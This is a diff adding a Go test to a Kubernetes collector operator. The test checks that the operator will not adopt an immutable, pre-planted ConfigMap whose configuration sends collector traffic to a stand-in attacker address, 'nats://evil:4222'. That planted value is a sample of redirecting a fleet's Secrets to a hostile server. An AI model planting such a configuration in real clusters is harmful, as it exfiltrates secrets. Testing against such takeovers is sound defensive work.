@@ -432,6 +432,34 @@ func TestObjectsOfOthersAreNotTaken(t *testing.T) {
 	}
 }
 
+// An orphan with our labels is adopted. One that cannot be written any more says to which servers collectors send the fleet's Secrets, and may be
+// of whoever may write ConfigMaps.
+func TestNoCollectorRunsByAConfigurationThatCannotBeWritten(t *testing.T) {
+	w := newWorld(t)
+	labels := map[string]string{fleet.LabelManagedBy: fleet.Product}
+	maps.Copy(labels, fleet.Selector(&v1alpha1.FlowCollector{ObjectMeta: metav1.ObjectMeta{Namespace: w.namespace, Name: "edge"}}))
+	planted := &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: w.namespace, Name: "edge-collector", Labels: labels}, Immutable: new(true),
+		Data: map[string]string{fleet.ConfigurationFile: "nats: {urls: ['nats://evil:4222']}"}}
+	if err := w.c.Create(t.Context(), planted); err != nil {
+		t.Fatal(err)
+	}
+	operator := w.start()
+	fc := w.create("edge")
+	w.expect(fc, v1alpha1.ConditionReady, metav1.ConditionFalse, judge.ReasonRefused, "ConfigMap", "immutable")
+	set := &appsv1.DaemonSet{}
+	if err := w.c.Get(t.Context(), client.ObjectKey{Namespace: w.namespace, Name: "edge-collector"}, set); !apierrors.IsNotFound(err) {
+		t.Errorf("collectors run by it: %v", err)
+	}
+	if err := w.c.Delete(t.Context(), planted); err != nil {
+		t.Fatal(err)
+	}
+	w.lookNow(operator, fc)
+	w.expect(fc, v1alpha1.ConditionConfigurationValid, metav1.ConditionTrue, judge.ReasonValid)
+	if err := w.c.Get(t.Context(), client.ObjectKey{Namespace: w.namespace, Name: "edge-collector"}, set); err != nil {
+		t.Error(err)
+	}
+}
+
 // An admission webhook that writes another registry into images, for one, would have them replaced for ever; so would one that adds labels,
 // defaults or containers to templates.
 func TestWhatAWebhookWritesIsNotTakenForAChange(t *testing.T) {
